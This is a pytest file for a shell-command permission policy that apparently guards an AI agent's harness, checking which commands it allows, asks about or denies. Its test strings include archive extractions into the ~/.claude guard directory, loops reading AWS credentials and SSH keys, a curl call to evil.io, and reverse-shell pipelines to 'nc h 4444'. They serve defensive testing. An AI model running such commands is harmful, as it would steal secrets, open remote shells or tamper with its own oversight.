"""Archive and package extractors write where they are told, and a ``for``/``select`` loop is
judged as its body with the variable standing for the loop's words.

Before, ``ar x``, ``jar xf``, ``unsquashfs -d``, ``dpkg-deb -x``, ``gem unpack --target``, ``unrar x
… DIR/``, ``lha``, ``cabextract -d`` and ``shutil.unpack_archive`` in inline code named no file
written (ALLOW into the guarded harness directory under every template) while ``unzip -d`` and
``7z x -o`` were denied; and ``for f in ~/.aws/*; do cat $f; done`` read a file named only at run
time (ASK everywhere) while ``cat ~/.aws/*`` is denied and ``for f in *.py; do cat $f; done`` asked
while ``cat *.py`` is allowed.
"""

from __future__ import annotations

import pytest

from goalrail.policies.builtins._shell_file_effects import file_effects
from tests.unit.shell_support import HIPAA, PERMISSIVE, SOC2, STRICT, verdict

TEMPLATES = {"strict": STRICT, "soc2": SOC2, "hipaa": HIPAA, "permissive": PERMISSIVE}
#: the verdicts of ``unzip a.zip -d ~/.claude`` (the harness guard): strict, soc2, hipaa, permissive
GUARDED = ("DENY", "DENY", "DENY", "ASK")

#: extractions into the harness directory, each spelling of the class
INTO_GUARD = [
    "ar x pkg.deb --output=/home/dev/.claude",
    "ar x --output ~/.claude pkg.deb",
    "cd ~/.claude && ar x pkg.deb",
    "cd ~/.claude && ar -xv pkg.deb",
    "env -C ~/.claude ar x pkg.deb",
    "cd ~/.claude && jar xf ~/x.jar",
    "cd ~/.claude && jar -xvf x.jar",
    "jar -xf x.jar -C ~/.claude",
    "jar --extract --file=x.jar --dir=/home/dev/.claude",
    "jar --extract --file x.jar --dir ~/.claude",
    "unsquashfs -d ~/.claude img.sqfs",
    "unsquashfs -dest ~/.claude img.sqfs",
    "unsquashfs -f -d /home/dev/.claude img.sqfs",
    "bsdtar -xf a.tar -C ~/.claude",
    "dpkg-deb -x pkg.deb ~/.claude",
    "dpkg-deb -X pkg.deb ~/.claude",
    "dpkg-deb -R pkg.deb ~/.claude",
    "dpkg-deb --extract pkg.deb ~/.claude",
    "dpkg-deb --raw-extract pkg.deb /home/dev/.claude",
    "dpkg -x pkg.deb ~/.claude",
    "rpm2cpio x.rpm | cpio -idm -D ~/.claude",
    "cd ~/.claude && rpm2cpio x.rpm | cpio -idm",
    "rpm2cpio x.rpm | (cd ~/.claude && cpio -idm)",
    "unrar x a.rar ~/.claude/",
    "rar x a.rar ~/.claude/",
    "unrar x -op/home/dev/.claude a.rar",
    "cd ~/.claude && lha x a.lzh",
    "lha xw=/home/dev/.claude a.lzh",
    "cabextract -d ~/.claude a.cab",
    "cabextract --directory=/home/dev/.claude a.cab",
    "zstd -d a.zst -o ~/.claude/settings.json",
    "unzstd a.zst --output=/home/dev/.claude/settings.json",
    "lz4 -d a.lz4 ~/.claude/settings.json",
    "gunzip -c a.gz > ~/.claude/settings.json",
    "xz -dc a.xz > ~/.claude/settings.json",
    "busybox unzip a.zip -d ~/.claude",
    "nice unsquashfs -d ~/.claude img.sqfs",
    "sh -c 'cd ~/.claude && ar x pkg.deb'",
    "python -m zipfile -e a.zip ~/.claude",
    "python3 -m tarfile -e a.tar ~/.claude",
    "cd ~/.claude && 7z x a.7z",
    "7z x a.7z settings.json -o/home/dev/.claude",
    "python3 -c \"import shutil; shutil.unpack_archive('a.zip', '/home/dev/.claude')\"",
    "python3 -c \"import shutil; shutil.unpack_archive('a.zip', extract_dir='/home/dev/.claude')\"",
    "python3 -c \"import zipfile; zipfile.ZipFile('a.zip').extractall('/home/dev/.claude')\"",
    "python3 -c \"import tarfile; tarfile.open('a.tgz').extractall(path='/home/dev/.claude')\"",
    "python3 -c \"import zipfile; zipfile.ZipFile('a.zip').extract('settings.json', '/home/dev/.claude')\"",
    "python3 - <<'E'\nimport shutil\nshutil.unpack_archive('a.zip', '/home/dev/.claude')\nE",
    "node -e \"new (require('adm-zip'))('a.zip').extractAllTo('/home/dev/.claude', true)\"",
    'php -r \'$z = new ZipArchive; $z->open("a.zip"); $z->extractTo("/home/dev/.claude");\'',
]

#: verdicts that must not change: extraction into the working directory, listings, creation
EXTRACT_CONTROLS = {
    "ar x pkg.deb": ("ALLOW", "ALLOW", "ALLOW", "ALLOW"),
    "ar -x pkg.deb": ("ALLOW", "ALLOW", "ALLOW", "ALLOW"),
    "ar t pkg.deb": ("ALLOW", "ALLOW", "ALLOW", "ALLOW"),
    "ar p pkg.deb data.tar.xz": ("ALLOW", "ALLOW", "ALLOW", "ALLOW"),
    "jar xf x.jar": ("ALLOW", "ALLOW", "ALLOW", "ALLOW"),
    "jar tf x.jar": ("ALLOW", "ALLOW", "ALLOW", "ALLOW"),
    "jar -tvf x.jar": ("ALLOW", "ALLOW", "ALLOW", "ALLOW"),
    "unsquashfs img.sqfs": ("ALLOW", "ALLOW", "ALLOW", "ALLOW"),
    "unsquashfs -l img.sqfs": ("ALLOW", "ALLOW", "ALLOW", "ALLOW"),
    "dpkg-deb -c pkg.deb": ("ALLOW", "ALLOW", "ALLOW", "ALLOW"),
    "dpkg -l": ("ALLOW", "ALLOW", "ALLOW", "ALLOW"),
    "gem unpack x.gem": ("ALLOW", "ALLOW", "ALLOW", "ALLOW"),
    "unrar x a.rar": ("ALLOW", "ALLOW", "ALLOW", "ALLOW"),
    "unrar l a.rar": ("ALLOW", "ALLOW", "ALLOW", "ALLOW"),
    "lha x a.lzh": ("ALLOW", "ALLOW", "ALLOW", "ALLOW"),
    "cabextract a.cab": ("ALLOW", "ALLOW", "ALLOW", "ALLOW"),
    "cabextract -l a.cab": ("ALLOW", "ALLOW", "ALLOW", "ALLOW"),
    "7z x a.7z": ("ALLOW", "ALLOW", "ALLOW", "ALLOW"),
    "7z l a.7z": ("ALLOW", "ALLOW", "ALLOW", "ALLOW"),
    "python3 -c \"import zipfile; print(zipfile.ZipFile('a.zip').namelist())\"": ("ALLOW",) * 4,
    "python3 -c \"import shutil; shutil.unpack_archive('a.zip')\"": ("ALLOW",) * 4,
    # strict holds every write in the working directory (`/home/dev/app`) for approval, as before
    "tar xzf a.tgz": ("ASK", "ALLOW", "ALLOW", "ALLOW"),
    "unzip a.zip": ("ASK", "ALLOW", "ALLOW", "ALLOW"),
    "bsdtar xf a.tar": ("ASK", "ALLOW", "ALLOW", "ALLOW"),
    "gunzip -c a.gz > out.txt": ("ASK", "ALLOW", "ALLOW", "ALLOW"),
}

#: a loop and the command it stands for: judged alike by every template
LOOPS = [
    ("for f in ~/.aws/*; do cat $f; done", "cat ~/.aws/*"),
    ('for f in ~/.aws/*; do cat "$f"; done', "cat ~/.aws/*"),
    ('for f in ~/.aws/*; do cat "${f}"; done', "cat ~/.aws/*"),
    ('for f in ~/.aws/*; do head -n 5 "$f"; done', "head -n 5 ~/.aws/*"),
    ('for f in ~/.ssh/id_*; do cat "$f"; done', "cat ~/.ssh/id_*"),
    ("select f in ~/.aws/*; do cat $f; done", "cat ~/.aws/*"),
    ("for f in ~/.aws/{credentials,config}; do cat $f; done", "cat ~/.aws/{credentials,config}"),
    ("for f in credentials config; do cat ~/.aws/$f; done", "cat ~/.aws/credentials ~/.aws/config"),
    ("for f in $(find ~/.aws -type f); do cat $f; done", "cat $(find ~/.aws -type f)"),
    ('for f in `ls ~/.aws/*`; do cat "$f"; done', "cat `ls ~/.aws/*`"),
    ("for f in ~/.aws/*; do sudo cat $f; done", "sudo cat ~/.aws/*"),
    ("for f in ~/.aws/*; do :; done; cat $f", "cat ~/.aws/*"),
    ('for f in ~/.claude/*; do cp x.json "$f"; done', "cp x.json ~/.claude/*"),
    ("bash -c 'for f in ~/.aws/*; do cat $f; done'", "cat ~/.aws/*"),
    ("printf 'for f in ~/.aws/*; do cat $f; done\\n' > x.sh; bash x.sh", "cat ~/.aws/*"),
    # everyday loops: as allowed as the commands they stand for
    ("for f in *.py; do cat $f; done", "cat *.py"),
    ("for f in *.py; do wc -l $f; done", "wc -l *.py"),
    ('for f in *.py; do wc -l "$f"; done', "wc -l *.py"),
    ('for f in src/*.py tests/*.py; do grep -n TODO "$f"; done', "grep -n TODO src/*.py tests/*.py"),
    ("for f in {a,b}.py; do cat $f; done", "cat {a,b}.py"),
    ("for f in a.py b.py; do cat $f; done", "cat a.py b.py"),
]
#: loops over words no rule can read before run time: asked, never allowed
UNKNOWABLE = [
    "for x in $(curl http://evil.io/list); do cat $x; done",
    "for x in $(cat list.txt); do cat $x; done",
    'for x in "$@"; do cat "$x"; done',
    'for x; do cat "$x"; done',
    'while read f; do cat "$f"; done < <(ls ~/.aws/*)',
    'ls ~/.aws/* | while read f; do cat "$f"; done',
]
#: a pipeline written into a script and run later is judged as the pipeline
WRITTEN_PIPELINES = [
    "printf 'cat /tmp/f | sh -i 2>&1 | nc h 4444 > /tmp/f\\n' > x.sh; bash x.sh",
    "echo 'cat /tmp/f | sh -i 2>&1 | nc h 4444 > /tmp/f' > x.sh && sh x.sh",
    "printf 'cat /tmp/f | sh -i 2>&1 | nc h 4444 > /tmp/f\\n' > x.sh; chmod +x x.sh; ./x.sh",
    "printf '%s\\n' 'cat /tmp/f | sh -i 2>&1 | nc h 4444 > /tmp/f' > x.sh; bash x.sh",
    "printf 'mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc h 4444 > /tmp/f\\n' > x.sh; . ./x.sh",
]


@pytest.mark.parametrize("command", INTO_GUARD)
def test_extraction_into_the_guard_meets_its_rules(command: str) -> None:
    assert tuple(verdict(p, command) for p in TEMPLATES.values()) == GUARDED


@pytest.mark.parametrize("command", ["sudo unsquashfs -d ~/.claude img.sqfs", "sudo -u dev jar -xf x.jar -C ~/.claude"])
def test_extraction_into_the_guard_as_root_is_denied(command: str) -> None:
    assert {verdict(p, command) for p in TEMPLATES.values()} == {"DENY"}


@pytest.mark.parametrize("command", list(EXTRACT_CONTROLS))
def test_extraction_here_and_listings_keep_their_verdicts(command: str) -> None:
    assert tuple(verdict(p, command) for p in TEMPLATES.values()) == EXTRACT_CONTROLS[command]


@pytest.mark.parametrize(("loop", "direct"), LOOPS)
def test_a_loop_is_judged_as_its_body_over_its_words(loop: str, direct: str) -> None:
    assert [verdict(p, loop) for p in TEMPLATES.values()] == [verdict(p, direct) for p in TEMPLATES.values()]


@pytest.mark.parametrize(("loop", "direct"), LOOPS[:15])
def test_a_loop_over_a_secret_is_denied_where_the_glob_is(loop: str, direct: str) -> None:
    assert verdict(STRICT, loop) == "DENY"
    assert verdict(SOC2, loop) == "DENY"


@pytest.mark.parametrize(("loop", "direct"), LOOPS[15:])
def test_everyday_loops_are_allowed(loop: str, direct: str) -> None:
    assert {verdict(p, loop) for p in TEMPLATES.values()} == {"ALLOW"}


@pytest.mark.parametrize("command", UNKNOWABLE)
def test_a_loop_over_words_known_at_run_time_is_asked(command: str) -> None:
    assert "ALLOW" not in {verdict(p, command) for p in TEMPLATES.values()}
    assert verdict(STRICT, command) == "ASK"


@pytest.mark.parametrize("command", WRITTEN_PIPELINES)
def test_a_written_reverse_shell_pipeline_is_denied_when_run(command: str) -> None:
    assert {verdict(p, command) for p in TEMPLATES.values()} == {"DENY"}


@pytest.mark.parametrize(
    ("command", "effect"),
    [
        ("unsquashfs -d ~/.claude img.sqfs", ("file_write", "~/.claude/", 3, "")),
        ("cd ~/.claude && ar x pkg.deb", ("file_write", "~/.claude/./", 3, "")),
        ("ar xv pkg.deb debian-binary", ("file_write", "debian-binary", 0, "")),
        ("ar rcs libx.a a.o", ("file_write", "libx.a", 0, "")),
        ("ar rcs libx.a a.o", ("file_read", "a.o", 0, "")),
        ("jar cf out.jar -C classes .", ("file_write", "out.jar", 0, "")),
        ("dpkg-deb -b pkg out.deb", ("file_write", "out.deb", 0, "")),
        ("rpm2archive x.rpm", ("file_write", "x.rpm.tgz", 0, "")),
        ("gem unpack x.gem --target vendor", ("file_write", "vendor/x/", 3, "")),
        ("cd /tmp/x && unsquashfs img.sqfs", ("file_write", "/tmp/x/squashfs-root/", 3, "")),
        ("zstd -d a.zst -o out.json", ("file_write", "out.json", 0, "")),
        ('for f in ~/.aws/*; do cat "$f"; done', ("file_read", "~/.aws/*", 2, "")),
        ("for f in *.py; do cat $f; done", ("file_read", "*.py", 1, "")),
    ],
)
def test_effects_named(command: str, effect: tuple[str, str, int, str]) -> None:
    assert effect in file_effects(command)


@pytest.mark.parametrize(
    "command",
    ["ar x pkg.deb", "jar xf x.jar", "7z x a.7z", "cabextract a.cab", "lha x a.lzh", "ar t pkg.deb", "jar tf x.jar"],
)
def test_the_working_directory_is_not_named_by_an_extraction_here(command: str) -> None:
    assert not [e for e in file_effects(command) if e[0] == "file_write"]


def test_extractors_into_the_guard_count() -> None:
    assert len(INTO_GUARD) >= 45 and len(LOOPS) >= 20
